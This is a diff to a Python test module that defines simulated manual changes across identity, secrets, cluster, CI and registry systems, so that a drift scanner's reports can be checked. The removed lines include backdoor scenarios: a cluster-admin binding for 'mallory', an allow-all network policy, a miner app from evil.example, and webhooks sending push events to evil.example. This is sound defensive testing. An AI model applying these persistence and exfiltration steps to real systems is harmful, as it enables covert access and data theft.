@@ -1,4 +1,7 @@
-"""Changes made by hand over the seven systems, and what a look for drift must then say: exactly that."""
+"""The one table of changes made outside the program, over the seven systems, with all that a drift scan reports then.
+
+`docs/drift.md` shows it. Objects that the program does not manage are made by the deeds of `tests.drift.inventory`.
+"""
 
 from __future__ import annotations
 
@@ -19,6 +22,8 @@ from lab.testing.platforms import PORT_BASE, TestLab
 from model.naming import catalogue_tag
 from model.reading.catalogue import FOLDER, read_catalogue
 from model.reading.settings_load import load_settings
+from tests.drift.inventory import by_hand_access, by_hand_clusters, by_hand_forge
+from tests.drift.inventory.hand import Expected, Hand
 from tests.engine import breaks, live, live_forge
 from tests.engine.harness import ROOT
 
@@ -29,11 +34,15 @@ _MERGE = {"Content-Type": "application/merge-patch+json"}
 _JSON_PATCH = {"Content-Type": "application/json-patch+json"}
 
 
+_STEPS = {"changed": "update", "missing": "create"}
+
+
 @dataclass(frozen=True)
 class HandMade:
     """One change: `what` for people, `do` makes it, `said` is all the report may say of it.
 
-    `by_hand` takes away again what no repair may or can, None where `--repair` does.
+    `by_hand` takes away again what no repair may or can, None where `--repair` does. `previewed`: the engine alone sees
+    it, in `preview --refresh`, which then also updates the objects `along`.
     """
 
     system: str
@@ -41,6 +50,15 @@ class HandMade:
     do: Callable[[TestLab], None]
     said: frozenset[Said]
     by_hand: Callable[[TestLab], None] | None = None
+    previewed: bool = False
+    along: tuple[str, ...] = ()
+
+    @property
+    def steps(self) -> dict[str, str]:
+        """The steps of `preview --refresh`, by the name of the object."""
+        if not self.previewed:
+            return {}
+        return {name: _STEPS[kind] for kind, name, _ in self.said} | dict.fromkeys(self.along, "update")
 
 
 def _ok(answer: httpx.Response) -> Any:
@@ -58,6 +76,29 @@ def missing(*names: str) -> frozenset[Said]:
 
 def unmanaged(*names: str) -> frozenset[Said]:
     return frozenset(("unmanaged", name, "") for name in names)
+
+
+def broken(
+    system: str, what: str, do: Callable[[TestLab], None], said: frozenset[Said], along: tuple[str, ...] = ()
+) -> HandMade:
+    """A change that the engine alone sees and repairs."""
+    return HandMade(system, what, do, said, previewed=True, along=along)
+
+
+def extra(
+    what: str,
+    deed: Callable[[Hand], Expected],
+    name: str,
+    by_hand: Callable[[TestLab], None] | None = None,
+) -> HandMade:
+    """An object made by one of the inventory's deeds; `name` is how it is found, without its number."""
+
+    def do(lab: TestLab) -> None:
+        _, _, made = deed(Hand(lab, "alpha"))
+        assert made.startswith(name)
+
+    system = deed.__name__.partition("_")[0]
+    return HandMade(system, what, do, unmanaged(name), by_hand)
 
 
 # Keycloak --------------------------------------------------------------------------------------------------------
@@ -84,29 +125,7 @@ def forbid_password_reset(lab: TestLab) -> None:
     lab.keycloak.connection.realm_name = "master"
 
 
-def make_a_group(lab: TestLab) -> None:
-    admin = _realm(lab)
-    admin.create_group({"name": "auditors"}, parent=admin.get_group_by_path("/alpha")["id"])
-
-
-def make_a_client(lab: TestLab) -> None:
-    _realm(lab).create_client({"clientId": "backdoor", "redirectUris": ["https://evil.example/*"]})
-
-
 # Vault -----------------------------------------------------------------------------------------------------------
-
-
-def write_a_policy(lab: TestLab) -> None:
-    lab.vault.sys.create_or_update_acl_policy("alpha.backdoor", 'path "alpha/*" { capabilities = ["read"] }')
-
-
-def make_a_workload_role(lab: TestLab) -> None:
-    role = {
-        "bound_service_account_names": ["*"],
-        "bound_service_account_namespaces": ["default"],
-        "token_policies": ["alpha.env.prod"],
-    }
-    lab.vault.write_data("auth/kubernetes/prod-1/role/alpha-backdoor", data=role)
 
 
 def mount_a_store(lab: TestLab) -> None:
@@ -157,23 +176,6 @@ def label_a_namespace(lab: TestLab) -> None:
     _ok(lab.kubernetes.patch("/api/v1/namespaces/alpha-prod", json=labels, headers=_MERGE))
 
 
-def bind_a_role(lab: TestLab) -> None:
-    body = {
-        "metadata": {"name": "backdoor"},
-        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
-        "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "oidc:mallory"}],
-    }
-    _ok(lab.kubernetes.post(f"{_RBAC}/namespaces/alpha-prod/rolebindings", json=body))
-
-
-def allow_everything(lab: TestLab) -> None:
-    body = {
-        "metadata": {"name": "allow-all"},
-        "spec": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"], "ingress": [{}], "egress": [{}]},
-    }
-    _ok(lab.kubernetes.post(f"{_NETWORK}/namespaces/alpha-prod/networkpolicies", json=body))
-
-
 def add_a_source(lab: TestLab) -> None:
     _append(lab, f"{_ARGOCD}/appprojects/alpha-prod", "/spec/sourceRepos/-", "*")
 
@@ -187,20 +189,6 @@ def add_a_policy(lab: TestLab) -> None:
     url = "/api/v1/namespaces/argocd/configmaps/argocd-rbac-cm"
     patch = {"data": {"policy.extra.csv": "g, /alpha/developer, role:admin\n"}}
     lab.kubernetes.patch(url, json=patch, headers={"Content-Type": "application/merge-patch+json"}).raise_for_status()
-
-
-def make_an_application(lab: TestLab) -> None:
-    body = {
-        "apiVersion": "argoproj.io/v1alpha1",
-        "kind": "Application",
-        "metadata": {"name": "alpha-prod--miner"},
-        "spec": {
-            "project": "alpha-prod",
-            "source": {"repoURL": "https://evil.example/x.git", "path": "."},
-            "destination": {"server": "https://kubernetes.default.svc", "namespace": "alpha-prod"},
-        },
-    }
-    _ok(lab.kubernetes.post(f"{_ARGOCD}/applications", json=body))
 
 
 # GitLab ----------------------------------------------------------------------------------------------------------
@@ -217,22 +205,8 @@ def invite_to_a_project(lab: TestLab) -> None:
     _ok(lab.gitlab.post(f"{_API}/members", json={"user_id": _user(lab, "chloe.petit"), "access_level": 50}))
 
 
-def leave_a_deploy_token(lab: TestLab) -> None:
-    _ok(lab.gitlab.post(f"{_API}/deploy_tokens", json={"name": "backdoor", "scopes": ["read_repository"]}))
-
-
-def set_a_variable(lab: TestLab) -> None:
-    _ok(lab.gitlab.post(f"{_GROUP}/variables", json={"key": "SKIP_SCANS", "value": "true"}))
-
-
-def start_a_project(lab: TestLab) -> None:
-    group = live_forge.get(lab.gitlab, "groups/tenants%2Falpha")["id"]
-    body = {"name": "fork", "path": "fork", "namespace_id": group, "initialize_with_readme": True}
-    _ok(lab.gitlab.post("/projects", json=body))
-
-
 def delete_the_project(lab: TestLab) -> None:
-    _ok(lab.gitlab.delete("/projects/tenants%2Falpha%2Ffork"))
+    _ok(lab.gitlab.delete("/projects/tenants%2Falpha%2Fextra-project"))
 
 
 def _tag() -> str:
@@ -266,17 +240,6 @@ def put_the_tag_back(lab: TestLab) -> None:
 # Harbor ----------------------------------------------------------------------------------------------------------
 
 
-def make_a_robot(lab: TestLab) -> None:
-    access = [{"resource": "repository", "action": "pull"}, {"resource": "repository", "action": "push"}]
-    body = {
-        "name": "backdoor",
-        "level": "project",
-        "duration": -1,
-        "permissions": [{"kind": "project", "namespace": "alpha", "access": access}],
-    }
-    _ok(lab.harbor.post("/robots", json=body))
-
-
 def _storage_quota(lab: TestLab, gib: int) -> None:
     project = lab.harbor.get("/projects/alpha").json()["project_id"]
     (quota,) = lab.harbor.get("/quotas", params={"reference": "project", "reference_id": project}).json()
@@ -291,64 +254,43 @@ def lower_the_storage_quota(lab: TestLab) -> None:
     _storage_quota(lab, 50)
 
 
-def watch_by_webhook(lab: TestLab) -> None:
-    project = live_forge.get(lab.harbor, "projects/alpha")["project_id"]
-    body = {
-        "name": "spy",
-        "enabled": True,
-        "event_types": ["PUSH_ARTIFACT"],
-        "targets": [{"type": "http", "address": "https://evil.example/hook"}],
-    }
-    _ok(lab.harbor.post(f"/projects/{project}/webhook/policies", json=body))
-
-
 # SonarQube -------------------------------------------------------------------------------------------------------
 
 
-def analyse_another_project(lab: TestLab) -> None:
-    _ok(lab.sonarqube.post("/api/projects/create", data={"project": "alpha:shadow", "name": "shadow"}))
-
-
 def delete_the_analysis(lab: TestLab) -> None:
-    _ok(lab.sonarqube.post("/api/projects/delete", data={"project": "alpha:shadow"}))
-
-
-def add_a_webhook(lab: TestLab) -> None:
-    body = {"name": "spy", "project": "alpha:api", "url": "https://evil.example/hook"}
-    _ok(lab.sonarqube.post("/api/webhooks/create", data=body))
+    _ok(lab.sonarqube.post("/api/projects/delete", data={"project": "alpha:extra"}))
 
 
 CHANGES: tuple[HandMade, ...] = (
-    HandMade("keycloak", "a member added to a group", breaks.add_a_member,
+    broken("keycloak", "a member added to a group", breaks.add_a_member,
              changed("alpha/keycloak/group/admin/members", "members")),
-    HandMade("keycloak", "a group deleted", breaks.delete_a_group,
+    broken("keycloak", "a group deleted", breaks.delete_a_group,
              missing("alpha/keycloak/group/security", "alpha/keycloak/group/security/members")),
-    HandMade("keycloak", "a client sent to another address", redirect_a_client,
+    broken("keycloak", "a client sent to another address", redirect_a_client,
              changed("foundation/keycloak/client/argocd", "validRedirectUris")),
     HandMade("keycloak", "a setting that no file states: password reset", allow_password_reset,
              changed("foundation/keycloak/realm", "resetPasswordAllowed"), forbid_password_reset),
-    HandMade("keycloak", "a group made", make_a_group, unmanaged("/alpha/auditors")),
-    HandMade("keycloak", "a client made", make_a_client, unmanaged("client: backdoor")),
-    HandMade("vault", "a policy widened", breaks.widen_a_policy, changed("alpha/vault/policy/env/dev", "policy")),
-    HandMade("vault", "a workload role bound to another namespace", breaks.rebind_a_workload_role,
+    extra("a group made", by_hand_access.keycloak_subgroup, "/alpha/extra"),
+    extra("a client made", by_hand_access.keycloak_client, "client: extra"),
+    broken("vault", "a policy widened", breaks.widen_a_policy, changed("alpha/vault/policy/env/dev", "policy")),
+    broken("vault", "a workload role bound to another namespace", breaks.rebind_a_workload_role,
              changed("alpha/vault/kubernetes-role/dev", "boundServiceAccountNamespaces")),
-    HandMade("vault", "a workload role deleted", breaks.delete_a_workload_role,
+    broken("vault", "a workload role deleted", breaks.delete_a_workload_role,
              missing("alpha/vault/kubernetes-role/prod")),
-    HandMade("vault", "a policy written", write_a_policy, unmanaged("policy: alpha.backdoor")),
-    HandMade("vault", "a workload role made", make_a_workload_role,
-             unmanaged("role of kubernetes/prod-1: alpha-backdoor")),
+    extra("a policy written", by_hand_access.vault_policy, "policy: alpha.extra"),
+    extra("a workload role made", by_hand_access.vault_workload_role, "role of kubernetes/nonprod-1: alpha-extra"),
     HandMade("vault", "a secrets engine mounted", mount_a_store, unmanaged("mount: alpha-old"), unmount_the_store),
     HandMade("vault", "a secret that the platform keeps written again", rewrite_a_secret,
              changed("alpha/vault/pipelines/secret/ci/registry/push", "dataJson")),
     HandMade("vault", "a secrets engine told to forget", forget_secrets, unmanaged("settings of mount: alpha"),
              keep_secrets),
-    HandMade("kubernetes", "a quota raised", breaks.raise_a_quota,
+    broken("kubernetes", "a quota raised", breaks.raise_a_quota,
              changed("alpha/kubernetes/dev/quota", 'spec.hard["limits.cpu"]')),
-    HandMade("kubernetes", "a network policy deleted", breaks.delete_a_network_policy,
+    broken("kubernetes", "a network policy deleted", breaks.delete_a_network_policy,
              missing("alpha/kubernetes/prod/network/default-deny")),
-    HandMade("kubernetes", "Pod Security relaxed", breaks.relax_pod_security,
+    broken("kubernetes", "Pod Security relaxed", breaks.relax_pod_security,
              changed("alpha/kubernetes/dev/namespace", 'metadata.labels["pod-security.kubernetes.io/enforce"]')),
-    HandMade("kubernetes", "the subjects of a role binding replaced", breaks.replace_the_subjects,
+    broken("kubernetes", "the subjects of a role binding replaced", breaks.replace_the_subjects,
              changed("alpha/kubernetes/prod/binding/rw", "subjects[0].name")),
     HandMade("kubernetes", "a subject added to a role binding", slip_a_subject_in,
              changed("alpha/kubernetes/dev/binding/rw", "subjects")),
@@ -356,9 +298,9 @@ CHANGES: tuple[HandMade, ...] = (
              changed("alpha/kubernetes/dev/network/default-deny", "spec.ingress")),
     HandMade("kubernetes", "a label set on a namespace", label_a_namespace,
              changed("alpha/kubernetes/prod/namespace", 'metadata.labels["platform.example/trusted"]')),
-    HandMade("kubernetes", "a role bound", bind_a_role, unmanaged("prod-1: alpha-prod/backdoor")),
-    HandMade("kubernetes", "a network policy made", allow_everything, unmanaged("prod-1: alpha-prod/allow-all")),
-    HandMade("argocd", "the sources of a project replaced", breaks.open_an_argocd_project,
+    extra("a role bound", by_hand_clusters.kubernetes_role_binding, "nonprod-1: alpha-dev/extra"),
+    extra("a network policy made", by_hand_clusters.kubernetes_network_policy, "nonprod-1: alpha-dev/extra"),
+    broken("argocd", "the sources of a project replaced", breaks.open_an_argocd_project,
              changed("alpha/argocd/dev/project", "spec.sourceRepos")),
     HandMade("argocd", "a source added to a project", add_a_source,
              changed("alpha/argocd/prod/project", "spec.sourceRepos")),
@@ -366,41 +308,42 @@ CHANGES: tuple[HandMade, ...] = (
              changed("alpha/argocd/repository/deploy", "data.insecure")),
     HandMade("argocd", "rights given in a policy of another name", add_a_policy,
              changed("foundation/argocd/rights", 'data["policy.extra.csv"]')),
-    HandMade("argocd", "an application deleted", breaks.delete_an_application, missing("alpha/argocd/prod/deploy")),
-    HandMade("argocd", "an application made", make_an_application, unmanaged("nonprod-1: argocd/alpha-prod--miner")),
-    HandMade("gitlab", "a member's level raised", breaks.raise_a_member,
+    broken("argocd", "an application deleted", breaks.delete_an_application, missing("alpha/argocd/prod/deploy")),
+    extra("an application made", by_hand_clusters.argocd_application, "nonprod-1: argocd/extra"),
+    broken("gitlab", "a member's level raised", breaks.raise_a_member,
              changed("alpha/gitlab/member/emma.leroy", "accessLevel")),
-    HandMade("gitlab", "a branch's protection removed", breaks.unprotect_a_branch,
+    broken("gitlab", "a branch's protection removed", breaks.unprotect_a_branch,
              missing("alpha/gitlab/api/branch/main")),
-    HandMade("gitlab", "a project's merge check switched off", breaks.loosen_a_project,
+    broken("gitlab", "a project's merge check switched off", breaks.loosen_a_project,
              changed("alpha/gitlab/api/project", "onlyAllowMergeIfPipelineSucceeds")),
-    HandMade("gitlab", "a CI variable deleted", breaks.delete_a_variable,
+    broken("gitlab", "a CI variable deleted", breaks.delete_a_variable,
              missing("alpha/gitlab/variable/USINE_TENANT")),
-    HandMade("gitlab", "a project opened to all job tokens", breaks.open_the_job_token,
+    broken("gitlab", "a project opened to all job tokens", breaks.open_the_job_token,
              changed("alpha/gitlab/api/job-token-scope", "enabled")),
     HandMade("gitlab", "somebody invited to a project", invite_to_a_project,
              unmanaged("tenants/alpha/api: chloe.petit")),
-    HandMade("gitlab", "a deploy token made", leave_a_deploy_token, unmanaged("tenants/alpha/api: backdoor")),
-    HandMade("gitlab", "a CI variable set", set_a_variable, unmanaged("tenants/alpha: SKIP_SCANS:*")),
+    extra("a deploy token made", by_hand_forge.gitlab_deploy_token_of_a_project, "tenants/alpha/api: extra"),
+    extra("a CI variable set", by_hand_forge.gitlab_variable_of_the_group, "tenants/alpha: EXTRA:*"),
     HandMade("gitlab", "the catalogue's tag made again at another commit", move_the_tag,
              changed(f"foundation/gitlab/catalogue/version/{TAG}", "ref"), put_the_tag_back),
-    HandMade("gitlab", "a project made", start_a_project, unmanaged("tenants/alpha/fork"), delete_the_project),
-    HandMade("harbor", "the images made public", breaks.publish_the_images, changed("alpha/harbor/project", "public")),
-    HandMade("harbor", "a member's role raised", breaks.raise_a_registry_member,
+    extra("a project made", by_hand_forge.gitlab_project, "tenants/alpha/extra-project", delete_the_project),
+    broken("harbor", "the images made public", breaks.publish_the_images, changed("alpha/harbor/project", "public")),
+    broken("harbor", "a member's role raised", breaks.raise_a_registry_member,
              changed("alpha/harbor/member/developer", "role")),
-    HandMade("harbor", "a robot deleted", breaks.delete_a_robot, missing("alpha/harbor/robot/push-1")),
-    HandMade("harbor", "immutable tags let go", breaks.let_tags_be_overwritten, missing("alpha/harbor/immutable/v*")),
-    HandMade("harbor", "a robot made", make_a_robot, unmanaged("robot: robot$alpha+backdoor")),
-    HandMade("harbor", "a webhook made", watch_by_webhook, unmanaged("alpha: webhook spy")),
+    broken("harbor", "a robot deleted", breaks.delete_a_robot, missing("alpha/harbor/robot/push-1"),
+           # Its secret goes with it: what held it gets the new one.
+           ("alpha/vault/pipelines/secret/ci/registry/push",)),
+    broken("harbor", "immutable tags let go", breaks.let_tags_be_overwritten, missing("alpha/harbor/immutable/v*")),
+    extra("a robot made", by_hand_forge.harbor_robot_of_the_project, "robot: robot$alpha+extra"),
+    extra("a webhook made", by_hand_forge.harbor_webhook, "alpha: webhook extra"),
     HandMade("harbor", "the storage quota raised", raise_the_storage_quota, unmanaged("alpha: storage quota"),
              lower_the_storage_quota),
-    HandMade("sonarqube", "a permission granted", breaks.grant_a_permission,
+    broken("sonarqube", "a permission granted", breaks.grant_a_permission,
              changed("alpha/sonarqube/api/permissions", "groups")),
-    HandMade("sonarqube", "another quality gate chosen", breaks.choose_another_gate,
+    broken("sonarqube", "another quality gate chosen", breaks.choose_another_gate,
              changed("alpha/sonarqube/api/gate", "gate")),
-    HandMade("sonarqube", "the new-code period shortened", breaks.shorten_the_new_code_period,
+    broken("sonarqube", "the new-code period shortened", breaks.shorten_the_new_code_period,
              changed("alpha/sonarqube/api/new-code", "value")),
-    HandMade("sonarqube", "a webhook made", add_a_webhook, unmanaged("alpha:api: webhook spy")),
-    HandMade("sonarqube", "a project made", analyse_another_project, unmanaged("project: alpha:shadow"),
-             delete_the_analysis),
+    extra("a webhook made", by_hand_forge.sonarqube_webhook_of_a_project, "alpha:api: webhook extra"),
+    extra("a project made", by_hand_forge.sonarqube_project, "project: alpha:extra", delete_the_analysis),
 )  # fmt: skip
